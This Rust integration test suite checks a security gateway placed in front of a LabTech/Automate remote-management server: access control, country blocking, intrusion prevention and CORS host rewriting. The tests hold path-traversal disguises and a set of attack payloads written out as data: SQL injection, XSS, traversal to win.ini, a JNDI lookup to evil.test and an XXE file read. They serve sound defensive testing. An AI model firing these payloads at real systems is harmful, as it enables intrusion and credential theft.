//! The four shipped policies together, as real components, with the traffic of the protected application.

use serde_json::Value;
use weir_tests::tls::{Authority, Kind};
use weir_tests::{Answer, Gateway, Reply, Request, Setup, Upstream, geo};

const TRUSTED: &str = "198.51.100.9";

/// Control panel names that are disguised as something an agent may ask for.
const DISGUISES: [&str; 7] = [
    "/LabTech/agent.aspx/../ControlCenter.asmx",
    "/LabTech/agent.aspx%2f..%2fControlCenter.asmx",
    "/LabTech/agent.aspx;/x",
    "/LabTech\\ControlCenter.asmx",
    "//LabTech//ControlCenter.asmx",
    "/LabTech/ControlCenter.asmx/agent.aspx",
    "/LabTech/./controlcenter.asmx.",
];

fn gateway(origin: &Upstream, model: &str) -> Gateway {
    Setup::before(origin)
        .behind_proxy()
        .countries()
        .policy("acl", "agent-acl", &format!("config = {{ model = \"{model}\", trusted = [\"198.51.100.0/24\"] }}"))
        .policy("geo", "geoip", "config = { allow = [\"US\", \"CA\"] }")
        .policy("ips", "ips", "config = { mode = \"block\" }")
        .policy("sso", "sso-cors", "config = { public = \"site.test\", origin = \"automate.internal\" }")
        .start()
}

fn check_in(target: &str, length: usize) -> Request {
    let body = "QWdlbnQ".bytes().cycle().take(length).collect::<Vec<u8>>();
    Request::post(target, "application/x-www-form-urlencoded", body)
        .header("user-agent", "LabTech Agent v250.204")
        .header("contentlength", &length.to_string())
}

/// A refusal shows its reference and nothing else; the log knows the rest.
#[track_caller]
fn check_refused(gateway: &Gateway, answer: &Answer, policy: &str, reason: &str) -> Value {
    let line = gateway.log_of(answer);
    assert_eq!(answer.status, 403, "{line}");
    assert_eq!((&line["decided_by"], &line["reason"], &line["status"]), (&policy.into(), &reason.into(), &403.into()), "{line}");
    let text = answer.text();
    assert!(text.contains(&answer.request_id()), "no reference: {text}");
    let rule = line["rule"].as_str().unwrap();
    assert!(!rule.is_empty() && !text.contains(rule), "the body names the rule: {text}");
    line
}

#[test]
fn agents_check_in_from_anywhere_in_both_models() {
    for model in ["agent-only", "all-traffic"] {
        let origin = Upstream::echo();
        let gateway = gateway(&origin, model);
        for (target, length) in [("/LabTech/agent.aspx?31=&272c1=", 564), ("/LabTech/agent.aspx?3p819=", 919)] {
            let answer = gateway.ask(&check_in(target, length).from(geo::US));
            assert_eq!((answer.status, answer.body.len()), (200, length), "{model} {target}");
            assert_eq!(origin.last().target(), target);
            let line = gateway.log_of(&answer);
            assert_eq!((&line["class"], &line["country"], &line["client_ip"]), (&"agent".into(), &"US".into(), &geo::US.into()));
        }
        for request in [
            Request::get("/Labtech/Agent.aspx"),
            Request::get("/LabTech/Transfer/installers/tool.bat").header("user-agent", "WindowsPowerShell/5.1"),
            Request::new("HEAD /labtech/transfer/installers/Reader_en_install.exe"),
            Request::new("POST /LABTECH/AGENT.ASPX?31=").body("x"),
        ] {
            let mut client = gateway.connect();
            assert_eq!(client.ask(&request.clone().from(geo::US)).unwrap().status, 200, "{model} {request:?}");
        }
    }
}

#[test]
fn sixty_agents_behind_one_address_check_in_at_once() {
    let origin = Upstream::echo();
    let gateway = gateway(&origin, "agent-only");
    std::thread::scope(|scope| {
        let agents: Vec<_> = (0..60)
            .map(|_| scope.spawn(|| gateway.ask(&check_in("/LabTech/agent.aspx?31=", 564).from(geo::US)).status))
            .collect();
        assert!(agents.into_iter().all(|agent| agent.join().unwrap() == 200));
    });
    assert_eq!(origin.count(), 60);
}

#[test]
fn the_console_and_its_disguises_are_closed_to_strangers_in_agent_only() {
    let origin = Upstream::text("console");
    let gateway = gateway(&origin, "agent-only");
    let console = gateway.ask(&Request::post("/LabTech/ControlCenter.asmx", "text/xml", "<a/>").from(geo::US));
    let line = check_refused(&gateway, &console, "acl", "class_not_allowed");
    assert_eq!(line["class"], "technician");
    for target in DISGUISES {
        let answer = gateway.ask(&Request::post(target, "text/xml", "<a/>").from(geo::US));
        assert_eq!(answer.status, 403, "{target}");
        assert_eq!(gateway.log_of(&answer)["decided_by"], "acl", "{target}");
    }
    assert_eq!(origin.count(), 0);
}

#[test]
fn the_console_and_its_disguises_reach_the_origin_from_a_trusted_network() {
    let origin = Upstream::text("console");
    let gateway = gateway(&origin, "agent-only");
    for target in ["/LabTech/ControlCenter.asmx"].iter().chain(&DISGUISES) {
        let answer = gateway.ask(&Request::post(target, "text/xml", "<a/>").from(TRUSTED));
        assert_eq!((answer.status, answer.text().as_str()), (200, "console"), "{target}: {}", gateway.log_of(&answer));
        assert_eq!(origin.last().target(), *target, "as the client sent it");
    }
}

#[test]
fn a_blocked_country_is_refused_for_every_class() {
    let origin = Upstream::echo();
    let gateway = gateway(&origin, "all-traffic");
    for request in [check_in("/LabTech/agent.aspx?31=", 564), Request::get("/automate/login")] {
        let answer = gateway.ask(&request.from(geo::KP));
        let line = check_refused(&gateway, &answer, "geo", "country_not_allowed");
        assert_eq!(line["country"], "KP");
    }
    assert_eq!(origin.count(), 0);
    assert_eq!(gateway.ask(&Request::get("/automate/login").from(geo::CA)).status, 200);
}

#[test]
fn countries_may_differ_between_classes() {
    let origin = Upstream::echo();
    let gateway = Setup::before(&origin)
        .behind_proxy()
        .countries()
        .policy("acl", "agent-acl", "config = { model = \"all-traffic\" }")
        .policy("geo", "geoip", "config = { allow = [\"US\"], class.agent = { allow = [\"*\"] } }")
        .start();
    assert_eq!(gateway.ask(&check_in("/LabTech/agent.aspx?31=", 20).from(geo::KP)).status, 200);
    let answer = gateway.ask(&Request::get("/automate/login").from(geo::KP));
    check_refused(&gateway, &answer, "geo", "country_not_allowed");
}

#[test]
fn a_new_country_database_is_used_without_a_restart() {
    let origin = Upstream::echo();
    let gateway = gateway(&origin, "all-traffic");
    let request = Request::get("/automate/login").from(geo::US);
    assert_eq!(gateway.ask(&request).status, 200);
    let moved = gateway.directory().write("country.new", geo::of(&[("192.0.2.0/24", "KP")]));
    std::fs::rename(moved, gateway.directory().path().join("country.mmdb")).unwrap();
    weir_tests::eventually(weir_tests::LONG, "the new database is used", || gateway.ask(&request).status == 403);
}

#[test]
fn injections_are_refused_with_a_reference_that_the_log_has_too() {
    let origin = Upstream::echo();
    let gateway = gateway(&origin, "all-traffic");
    let xxe = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY e SYSTEM \"file:///c:/windows/win.ini\">]><r>&e;</r>";
    let attacks = [
        Request::get("/automate/computers?id=1%27%20OR%20%271%27=%271%27--%20"),
        Request::get("/automate/computers?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"),
        Request::post("/automate/login", "application/x-www-form-urlencoded", "user=admin%27%20AND%20SLEEP(5)--&x=1"),
        Request::get("/automate/x?q=%3Cscript%3Ealert(1)%3C/script%3E"),
        Request::get("/automate/x?f=..%2f..%2f..%2fwindows%2fwin.ini"),
        Request::get("/automate/x").header("user-agent", "${jndi:ldap://evil.test/a}"),
        Request::post("/LabTech/ControlCenter.asmx", "text/xml; charset=utf-8", xxe),
    ];
    for attack in attacks {
        let answer = gateway.ask(&attack.clone().from(geo::US));
        let line = gateway.log_of(&answer);
        assert_eq!((answer.status, &line["decided_by"]), (403, &"ips".into()), "{attack:?}: {line}");
        assert!(!line["rule"].as_str().unwrap().is_empty() && !line["reason"].as_str().unwrap().is_empty(), "{line}");
        assert!(!line["findings"].as_array().unwrap().is_empty(), "{line}");
        assert!(answer.text().contains(&answer.request_id()) && !answer.text().contains(line["rule"].as_str().unwrap()));
        let json = gateway.ask(&attack.header("accept", "application/json").from(geo::US));
        let body: Value = serde_json::from_slice(&json.body).unwrap();
        assert_eq!(body["reference"], json.request_id().as_str());
    }
    assert_eq!(origin.count(), 0);
}

#[test]
fn ordinary_traffic_that_looks_odd_is_not_refused() {
    let origin = Upstream::echo();
    let gateway = gateway(&origin, "all-traffic");
    let soap = "<soap:Envelope><soap:Body><q><![CDATA[select * from computers where name like '%srv%']]></q></soap:Body></soap:Envelope>";
    let ordinary = [
        Request::post("/LabTech/ControlCenter.asmx", "text/xml; charset=utf-8", soap).header("soapaction", "\"x\""),
        Request::post(
            "/cwa/api/v1/apitoken",
            "application/json",
            "{\"UserName\":\"u\",\"Password\":\"p'--\",\"TwoFactorPasscode\":\"1\"}",
        ),
        Request::get("/WCC2/api/Computers?$filter=Name%20eq%20%27PC1%27").header("authorization", "LTToken x"),
        Request::new("DELETE /cwa/api/v1/Computers/12"),
    ];
    for request in ordinary {
        let answer = gateway.ask(&request.clone().from(geo::US));
        assert_eq!(answer.status, 200, "{request:?}: {}", gateway.log_of(&answer));
    }
}

#[test]
fn preflights_are_answered_at_the_edge_for_known_origins_only() {
    let origin = Upstream::echo();
    let gateway = gateway(&origin, "all-traffic");
    let preflight = |from: &str| {
        Request::new("OPTIONS /cwa/api/v1/computers")
            .header("origin", from)
            .header("access-control-request-method", "POST")
            .from(geo::US)
    };
    let known = gateway.ask(&preflight("http://site.test"));
    assert_eq!((known.status, known.header("access-control-allow-origin")), (204, Some("http://site.test")));
    assert!(known.header("vary").is_some_and(|vary| vary.to_ascii_lowercase().contains("origin")));
    assert_eq!(gateway.log_of(&known)["reason"], "preflight_answered");
    let stranger = gateway.ask(&preflight("https://evil.example"));
    assert_eq!(stranger.header("access-control-allow-origin"), None);
    assert_eq!(origin.count(), 0);
}

#[test]
fn host_names_are_rewritten_between_client_and_origin() {
    let origin = Upstream::scripted(|_| {
        let fields = [
            ("location", "https://automate.internal/automate/home"),
            ("set-cookie", "a=b; Domain=automate.internal; Path=/"),
            ("set-cookie", "c=d; Expires=Wed, 21 Oct 2037 07:28:00 GMT"),
        ];
        Reply::with("302 Found", &fields, "")
    });
    let authority = Authority::new();
    let gateway = Setup::before(&origin)
        .certificate(&authority.issue(Kind::Ecdsa, &["site.test"]))
        .policy("sso", "sso-cors", "config = { public = \"site.test\", origin = \"automate.internal\" }")
        .start();
    let mut client = authority.connect(gateway.tls(), "site.test").unwrap();
    let request = Request::get("/automate/login").header("origin", "https://site.test").header("referer", "https://site.test/a");
    let answer = client.ask(&request).unwrap();
    let received = origin.last();
    assert_eq!(received.header("host"), Some("automate.internal"));
    assert_eq!(received.header("origin"), Some("https://automate.internal"));
    assert_eq!(received.header("referer"), Some("https://automate.internal/a"));
    assert_eq!(received.header("x-forwarded-host"), Some("site.test"));
    assert_eq!((answer.status, answer.header("location")), (302, Some("https://site.test/automate/home")));
    let cookies = answer.head.all("set-cookie");
    assert_eq!(cookies.len(), 2);
    assert!(cookies[0].starts_with("a=b;") && !cookies[0].contains("automate.internal"), "{cookies:?}");
    assert!(cookies[1].contains("Wed, 21 Oct 2037 07:28:00 GMT"), "{cookies:?}");
}

/// A response in which a policy has nothing to do costs no call of it.
#[test]
fn a_policy_sees_the_responses_it_asked_for() {
    let origin = Upstream::scripted(|request| match request.target() {
        "/link" => Reply::with("200 OK", &[("link", "<https://AUTOMATE.internal/a.css>; rel=preload")], ""),
        "/cookie" => Reply::with("200 OK", &[("set-cookie", "a=b")], ""),
        _ => Reply::with("200 OK", &[("content-type", "text/html"), ("location-hint", "/home")], ""),
    });
    let sso = "config = { public = \"site.test\", origin = \"automate.internal\", allowed_origins = [\"https://page.test\"] }";
    let gateway = Setup::before(&origin).policy("sso", "sso-cors", sso).start();
    let phases = |request: &Request| {
        let answer = gateway.ask(request);
        let line = gateway.log_of(&answer);
        let phases = line["policies"].as_array().unwrap().iter().map(|entry| entry["phase"].as_str().unwrap().to_owned());
        (phases.collect::<Vec<_>>().join(" "), answer)
    };
    assert_eq!(phases(&Request::get("/plain")).0, "request");
    assert_eq!(phases(&Request::get("/cookie")).0, "request response");
    let (asked, answer) = phases(&Request::get("/link"));
    assert_eq!((asked.as_str(), answer.header("link")), ("request response", Some("<http://site.test/a.css>; rel=preload")));
    let (asked, answer) = phases(&Request::get("/plain").header("origin", "https://page.test"));
    assert_eq!(asked, "request response", "the request phase kept state");
    assert_eq!(answer.header("access-control-allow-origin"), Some("https://page.test"));
}

#[test]
fn a_policy_in_observe_mode_logs_and_changes_nothing() {
    let origin = Upstream::text("served");
    let gateway = Setup::before(&origin)
        .behind_proxy()
        .policy("acl", "agent-acl", "mode = \"observe\"\nconfig = { model = \"agent-only\" }")
        .policy("sso", "sso-cors", "mode = \"observe\"\nconfig = { public = \"site.test\", origin = \"automate.internal\" }")
        .start();
    let answer = gateway.ask(&Request::get("/automate/login").from(geo::US));
    assert_eq!((answer.status, answer.text().as_str()), (200, "served"));
    assert_eq!(origin.last().header("host"), Some("site.test"), "edits are discarded");
    let line = gateway.log_of(&answer);
    assert_eq!(line["decided_by"], "upstream");
    let acl = &line["policies"][0];
    assert_eq!((&acl["name"], &acl["verdict"], &acl["mode"]), (&"acl".into(), &"deny".into(), &"observe".into()), "{line}");
}
